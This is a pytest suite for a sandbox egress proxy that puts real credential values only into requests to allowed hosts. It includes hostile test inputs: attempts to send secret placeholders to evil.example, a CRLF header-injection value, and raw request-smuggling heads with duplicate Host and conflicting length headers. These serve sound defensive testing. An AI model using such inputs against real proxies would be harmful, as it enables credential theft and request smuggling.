"""Proves: real values go into requests to allowed hosts and nowhere else, whatever the shape of the request."""

import asyncio
import base64
import contextlib
import io
import json
import socket
import ssl
from collections.abc import AsyncIterator, Callable
from urllib.parse import unquote_plus

import aiohttp
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kit.waiting import within
from services.worker.runner.secrets import SessionSecrets
from services.worker.sandbox import inspecting
from services.worker.sandbox.egress import HostRule, NetworkPolicy
from services.worker.sandbox.proxy import EgressProxy
from tests.support.injection import NAMES, SECRET, Hosts, Vault, hosts, secrets_of, variable

OPEN = NetworkPolicy(unrestricted=True)


class Way:
    """A proxy of a session, and a client behind it."""

    def __init__(self, found: Hosts, secrets: SessionSecrets, port: int) -> None:
        self.hosts, self.secrets, self.port = found, secrets, port
        context = ssl.create_default_context(cadata=secrets.authority.certificate_pem.decode())
        context.load_verify_locations(cadata=found.authority.certificate_pem.decode())
        self.context = context
        self.http = aiohttp.ClientSession(
            connector=aiohttp.TCPConnector(ssl=context, limit=8), auto_decompress=True, proxy=f"http://127.0.0.1:{port}"
        )

    async def placeholder(self, name: str = "TOKEN") -> str:
        return next(each.text for each in await self.secrets.placeholders() if each.name == name)

    async def ask(self, url: str, method: str = "POST", **more) -> tuple[int, str]:
        async with self.http.request(method, url, **more) as response:
            self.response_headers = response.headers
            return response.status, await response.text()

    async def raw(self, data: bytes, *, host: str = "api.example:443", tls: bool = True) -> bytes:
        """What comes back for these bytes in a tunnel, up to the end of the connection."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        try:
            writer.write(f"CONNECT {host} HTTP/1.1\r\n\r\n".encode())
            assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
            if tls:
                await writer.start_tls(self.context, server_hostname=host.partition(":")[0])
            writer.write(data)
            return await within(reader.read(-1), 30)
        finally:
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()


@contextlib.asynccontextmanager
async def way(found: Hosts, vault: Vault, policy: NetworkPolicy = OPEN) -> AsyncIterator[Way]:
    secrets = secrets_of(vault)
    proxy = EgressProxy(policy, resolve=found.resolve, connect=found.connect, secrets=secrets)
    listener = socket.create_server(("127.0.0.1", 0))
    await proxy.serve(listener)
    made = Way(found, secrets, listener.getsockname()[1])
    try:
        yield made
    finally:
        await made.http.close()
        await proxy.close()


@pytest.fixture
async def found(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Hosts]:
    async with hosts() as running:
        monkeypatch.setattr(inspecting, "trust_store", running.trust)
        yield running


@pytest.mark.parametrize("url", ["https://api.example/", "http://api.example/", "http://api.example:8080/"])
async def test_a_header_gets_the_value_at_an_allowed_host(found: Hosts, url: str) -> None:
    vault = Vault(variable("TOKEN", "s3cret-value", "api.example"))
    async with way(found, vault) as one:
        token = await one.placeholder()
        status, _ = await one.ask(url, headers={"authorization": f"Bearer {token}", "x-other": "kept"})
        assert status == 200
        assert found.seen[0].headers["Authorization"] == "Bearer s3cret-value"
        assert found.seen[0].headers["x-other"] == "kept"
        assert found.seen[0].headers["Host"] == url.split("/")[2]
        assert [(asked.host, asked.port) for asked in vault.asked] == [
            ("api.example", {"https": 443}.get(url[:5], 8080 if "8080" in url else 80))
        ]


async def test_a_password_of_basic_authentication_is_found_inside_of_its_base64(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret-ü", "api.example"))) as one:
        auth = base64.b64encode(f"x-access-token:{await one.placeholder()}".encode()).decode()
        await one.ask("https://api.example/", "GET", headers={"authorization": f"Basic {auth}"})
        sent = found.seen[0].headers["Authorization"].removeprefix("Basic ")
        assert base64.b64decode(sent).decode() == "x-access-token:s3cret-ü"


@pytest.mark.parametrize(
    ("content_type", "read"),
    [
        ("application/json", lambda body: json.loads(body)["token"]),
        ("application/vnd.api+json; charset=utf-8", lambda body: json.loads(body)["token"]),
        ("application/x-www-form-urlencoded", lambda body: unquote_plus(body.removeprefix("token="))),
        ("text/plain", lambda body: body.removeprefix("token ")),
    ],
)
async def test_a_body_stays_what_it_says_it_is(found: Hosts, content_type: str, read: Callable[[str], str]) -> None:
    async with way(found, Vault(variable("TOKEN", SECRET, "api.example"))) as one:
        token = await one.placeholder()
        shapes = {"json": json.dumps({"token": token}), "form": f"token={token}", "plain": f"token {token}"}
        body = shapes["json" if "json" in content_type else "form" if "form" in content_type else "plain"]
        await one.ask("https://api.example/", data=body, headers={"content-type": content_type})
        seen = found.seen[0]
        assert read(seen.body.decode()) == SECRET
        assert int(seen.headers["Content-Length"]) == len(seen.body)


@given(st.lists(st.binary(max_size=30) | st.just(b"#"), max_size=8), st.lists(st.integers(1, 60), max_size=12))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
async def test_a_chunked_body_is_the_same_however_it_is_cut(found: Hosts, parts: list[bytes], cuts: list[int]) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        token = (await one.placeholder()).encode()
        whole = b"".join(token if part == b"#" else part for part in parts)

        async def pieces() -> AsyncIterator[bytes]:
            rest = whole
            for cut in cuts:
                if rest[:cut]:
                    yield rest[:cut]
                rest = rest[cut:]
            if rest:
                yield rest

        found.seen.clear()
        await one.ask("http://api.example/", data=pieces())
        assert found.seen[0].body == whole.replace(token, b"s3cret")


@pytest.mark.parametrize("scheme", ["https", "http"])
async def test_another_host_gets_nothing_and_the_session_is_told_once_a_turn(found: Hosts, scheme: str) -> None:
    vault = Vault(variable("TOKEN", "s3cret", "api.example"), variable("ANY", "for-all"))
    async with way(found, vault) as one:
        token = await one.placeholder()
        for more in ({"headers": {"x-token": token}}, {"data": f"token={token}"}, {"params": {"q": token}}):
            status, text = await one.ask(f"{scheme}://evil.example/", **more)
            assert status == 403 and "TOKEN may not be sent to evil.example" in text and "api.example" in text
        assert not found.seen
        # The vault has it on record, and was asked for nothing else.
        assert {(asked.host, tuple(asked.names)) for asked in vault.asked} == {("evil.example", ("TOKEN",))}
        (problem,) = one.secrets.take_problems()
        assert (problem.vault_id, problem.credential_id) == ("vlt_1", "vcrd_token")
        assert not one.secrets.take_problems()
        one.secrets.begin_turn()
        await one.ask(f"{scheme}://evil.example/", headers={"x-token": token})
        assert len(one.secrets.take_problems()) == 1


async def test_a_tunnel_to_a_host_of_no_credential_is_not_opened(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        context = ssl.create_default_context(cadata=found.authority.certificate_pem.decode())
        token = await one.placeholder()
        status, _ = await one.ask("https://other.example/", headers={"x-token": token}, ssl=context)
        # The client saw the host's own certificate, and the host the placeholder, which opens nothing.
        assert status == 200 and found.seen[0].headers["x-token"] == token
        with pytest.raises(aiohttp.ClientConnectorCertificateError):
            await one.ask("https://api.example/", ssl=context)


@pytest.mark.parametrize(
    ("places", "request_", "told"),
    [
        ({"in_body": False}, {"data": "a # b"}, "headers of requests, not in bodies"),
        ({"in_headers": False}, {"headers": {"x-token": "#"}}, "bodies of requests, not in headers"),
        ({}, {"params": {"key": "#"}}, "may not stand in a URL"),
    ],
)
async def test_a_value_stands_only_where_its_credential_allows(
    found: Hosts, places: dict, request_: dict, told: str
) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example", **places))) as one:
        token = await one.placeholder()
        filled = json.loads(json.dumps(request_).replace("#", token))
        status, text = await one.ask("https://api.example/", **filled)
        assert status == 403 and told in text and "s3cret" not in text
        assert not found.seen and not one.secrets.take_problems()


async def test_a_value_of_several_lines_forges_no_header(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "one\r\nX-Injected: two", "api.example"))) as one:
        status, text = await one.ask("https://api.example/", headers={"x-token": await one.placeholder()})
        assert status == 403 and "several lines" in text and not found.seen


@pytest.mark.parametrize("path", ["echo", "gzip", "stream", "long"])
async def test_what_a_host_repeats_comes_back_as_the_placeholder(found: Hosts, path: str) -> None:
    async with way(found, Vault(variable("TOKEN", SECRET, "api.example"))) as one:
        token = await one.placeholder()
        encoded = base64.b64encode(f"pad{SECRET}".encode()).decode()
        await one.ask("https://api.example/", data=token, headers={"content-type": "text/plain"})
        status, text = await one.ask(
            f"https://api.example/{path}", data=f"<{token}>{encoded}", headers={"authorization": token}
        )
        assert status == 200 and f"<{token}>" in text and SECRET not in text
        assert base64.b64encode(SECRET.encode()).decode()[:20] not in text and encoded not in text
        if path == "echo":
            await one.ask("https://api.example/echo", headers={"x-token": token})
            assert one.response_headers["x-echo"] == token


async def test_events_come_at_once_although_they_are_looked_through(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        await one.ask("https://api.example/", headers={"x-token": await one.placeholder()})
        async with one.http.get("https://api.example/events") as response:
            assert await response.content.readuntil(b"\n\n") == b"data: first\n\n"
            await one.ask("https://api.example/go")
            assert await response.content.read(-1) == b"data: second\n\n"


async def test_a_connection_serves_many_requests_and_a_body_waits_for_leave(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        token = await one.placeholder()
        for number in range(5):
            await one.ask(f"https://api.example/{number}", headers={"x-token": token}, data=token, expect100=True)
        assert [(seen.path, seen.body) for seen in found.seen] == [(f"/{number}", b"s3cret") for number in range(5)]
        assert found.connections == 1


async def test_a_websocket_passes_with_the_value_in_its_handshake(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        headers = {"authorization": f"Bearer {await one.placeholder()}"}
        async with one.http.ws_connect("wss://api.example/socket", headers=headers) as connection:
            await connection.send_str("hello")
            assert (await connection.receive(timeout=5)).data == "HELLO"
        assert found.seen[0].headers["Authorization"] == "Bearer s3cret"


@contextlib.asynccontextmanager
async def answering(found: Hosts, answer: bytes) -> AsyncIterator[list[bytes]]:
    """In the place of the host in the clear, one that answers every head like this; `{}` is what X-Token held."""
    heads: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError):
            heads.append(await reader.readuntil(b"\r\n\r\n"))
            token = heads[-1].partition(b"X-Token: ")[2].partition(b"\r\n")[0]
            writer.write(answer.replace(b"{}", token))
            await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    found.plain_port = server.sockets[0].getsockname()[1]
    async with server:
        yield heads


@pytest.mark.parametrize("asked", [b"", b"Connection: Upgrade\r\nUpgrade: h2c\r\n", b"Upgrade: websocket\r\n"])
async def test_only_a_change_of_protocol_that_was_asked_for_and_is_no_http_passes(found: Hosts, asked: bytes) -> None:
    changing = b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: other\r\n\r\n{}"
    async with (
        way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one,
        answering(found, changing) as heads,
    ):
        head = b"GET / HTTP/1.1\r\nHost: api.example\r\n" + asked + b"X-Token: %s\r\n\r\n"
        answer = await one.raw(head % (await one.placeholder()).encode(), host="api.example:80", tls=False)
        assert answer.startswith(b"HTTP/1.1 502 ") and b"s3cret" not in answer
        assert b"X-Token: s3cret" in heads[0] and b"pgrade" not in heads[0]


async def test_a_name_of_a_header_repeats_no_value(found: Hosts) -> None:
    named = b"HTTP/1.1 200 OK\r\n{}: it\r\nContent-Length: 0\r\n\r\n"
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one, answering(found, named):
        placeholder = (await one.placeholder()).encode()
        head = b"GET / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\nX-Token: %s\r\n\r\n" % placeholder
        answer = await one.raw(head, host="api.example:80", tls=False)
        assert b"s3cret" not in answer and placeholder + b": it\r\n" in answer


@pytest.mark.parametrize("size", [5, 5_000_000])
async def test_what_a_client_calls_its_connections_own_hides_no_host_and_no_length(found: Hosts, size: int) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        head = b"POST /it HTTP/1.1\r\nHost: api.example\r\nConnection: host, content-length, close\r\n"
        await one.raw(head + b"Content-Length: %d\r\n\r\n" % size + b"z" * size)
        (seen,) = found.seen
        assert (seen.headers["Host"], len(seen.body)) == ("api.example", size)


async def test_a_long_body_passes_and_may_hold_no_placeholder_unless_it_is_chunked(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        token, filler = (await one.placeholder()).encode(), b"z" * 5_000_000
        assert (await one.ask("https://api.example/", data=io.BytesIO(filler)))[0] == 200
        assert found.seen[0].body == filler
        status, text = await one.ask("https://api.example/", data=io.BytesIO(filler + token))
        assert status == 413 and "chunked" in text

        async def pieces() -> AsyncIterator[bytes]:
            yield filler
            yield token

        assert (await one.ask("https://api.example/", data=pieces()))[0] == 200
        assert found.seen[-1].body == filler + b"s3cret"


async def test_the_hosts_certificate_is_verified_before_anything_is_sent(
    found: Hosts, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inspecting, "trust_store", ssl.create_default_context)
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        status, text = await one.ask("https://api.example/", headers={"x-token": await one.placeholder()})
        assert status == 502 and "certificate of api.example" in text and not found.seen


@pytest.mark.parametrize(
    "head",
    [
        b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: api.example\r\nHost: evil.example\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"GET https://evil.example/ HTTP/1.1\r\nHost: api.example\r\n\r\n",
        b"CONNECT evil.example:443 HTTP/1.1\r\nHost: api.example\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: api.example\r\nBad header: x\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: api.example\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\nx",
        b"POST / HTTP/1.1\r\nHost: api.example\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nx",
        b"GET / HTTP/2.0\r\nHost: api.example\r\n\r\n",
        b"garbage\r\n\r\n",
    ],
)
@pytest.mark.parametrize("target", ["api.example:443", "api.example:80"])
async def test_no_request_hides_another_host_or_request(found: Hosts, head: bytes, target: str) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        if head == b"garbage\r\n\r\n" and target.endswith(":80"):
            return
        answer = await one.raw(head, host=target, tls=target.endswith("443"))
        assert answer.startswith(b"HTTP/1.1 400 ") and not found.seen


@pytest.mark.parametrize("greeting", [b"lower case\r\n", b"SSH-2.0-client\r\n", b"\x00\x01\r\n"])
async def test_what_is_no_http_in_a_tunnel_passes_as_it_is(found: Hosts, greeting: bytes) -> None:
    """Whoever speaks first: a server that greets is no web server."""

    async def greet(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"SSH-2.0-test\r\n")
        writer.write(await reader.readline())
        writer.close()

    server = await asyncio.start_server(greet, "127.0.0.1", 0)
    found.plain_port = server.sockets[0].getsockname()[1]
    async with server, way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        assert await one.raw(greeting, host="api.example:22", tls=False) == b"SSH-2.0-test\r\n" + greeting


async def test_an_old_client_gets_an_answer_that_ends_with_the_connection(found: Hosts) -> None:
    async with way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        token = (await one.placeholder()).encode()
        head = b"GET /echo HTTP/1.0\r\nHost: api.example\r\nAuthorization: " + token + b"\r\n\r\n"
        answer = await one.raw(head)
        assert answer.endswith(b"\r\n\r\n" + token + b"\n") and b"chunked" not in answer.lower()


async def test_the_environments_policy_holds_whatever_a_credential_allows(found: Hosts) -> None:
    policy = NetworkPolicy(rules=(HostRule("other.example", False, None),))
    async with way(found, Vault(variable("TOKEN", "s3cret")), policy) as one:
        with pytest.raises(aiohttp.ClientHttpProxyError) as refused:
            await one.ask("https://api.example/", headers={"x-token": await one.placeholder()})
        assert refused.value.status == 403 and not found.dialled
        assert (await one.ask("https://other.example/", headers={"x-token": await one.placeholder()}))[0] == 200
        assert found.seen[0].headers["x-token"] == "s3cret"


async def test_nothing_is_opened_that_is_not_used_and_a_rotation_is_used_at_once(found: Hosts) -> None:
    vault = Vault(variable("TOKEN", "first-value", "api.example"))
    async with way(found, vault) as one:
        token = await one.placeholder()
        await one.ask("https://api.example/")
        assert not vault.asked
        for _ in range(3):
            await one.ask("https://api.example/", headers={"x-token": token})
        assert len(vault.asked) == 1
        vault.credentials = [variable("TOKEN", "second-value", "api.example", secret_version=2)]
        one.secrets.forget()
        await one.ask("https://api.example/", headers={"x-token": token})
        assert [seen.headers.get("x-token") for seen in found.seen] == [None, *["first-value"] * 3, "second-value"]
        # What came before is taken out of answers still.
        _, text = await one.ask("https://api.example/echo", data="first-value second-value")
        assert "value" not in text


async def test_of_several_credentials_only_those_in_use_are_opened(found: Hosts) -> None:
    vault = Vault(*(variable(name, f"value-of-{name}", "api.example") for name in ("ONE", "TWO", "THREE")))
    async with way(found, vault) as one:
        texts = [await one.placeholder(name) for name in ("ONE", "TWO")]
        await one.ask("https://api.example/", headers={"x-token": texts[0]}, data=f"{texts[1]}, {texts[0]}")
        assert found.seen[0].headers["x-token"] == "value-of-ONE"
        assert found.seen[0].body == b"value-of-TWO, value-of-ONE"
        assert [list(asked.names) for asked in vault.asked] == [["ONE"], ["TWO"]]


async def test_an_archived_credential_is_refused_and_a_vault_that_is_down_is_told(found: Hosts) -> None:
    vault = Vault(variable("TOKEN", "s3cret", "api.example"))
    async with way(found, vault) as one:
        token = await one.placeholder()
        vault.is_down = True
        status, text = await one.ask("https://api.example/", headers={"x-token": token})
        assert status == 503 and "Try again" in text
        vault.is_down, vault.credentials = False, []
        status, _ = await one.ask("https://api.example/", headers={"x-token": token})
        assert status == 403 and not found.seen


async def test_a_host_that_ends_the_connection_is_told(found: Hosts) -> None:
    server = await asyncio.start_server(lambda _, writer: writer.close(), "127.0.0.1", 0)
    found.plain_port = server.sockets[0].getsockname()[1]
    async with server, way(found, Vault(variable("TOKEN", "s3cret", "api.example"))) as one:
        assert (await one.ask("http://api.example/", headers={"x-token": await one.placeholder()}))[0] == 502


async def test_a_proxy_without_secrets_looks_into_nothing(found: Hosts) -> None:
    proxy = EgressProxy(OPEN, resolve=found.resolve, connect=found.connect)
    assert proxy._inspector is None
    assert NAMES
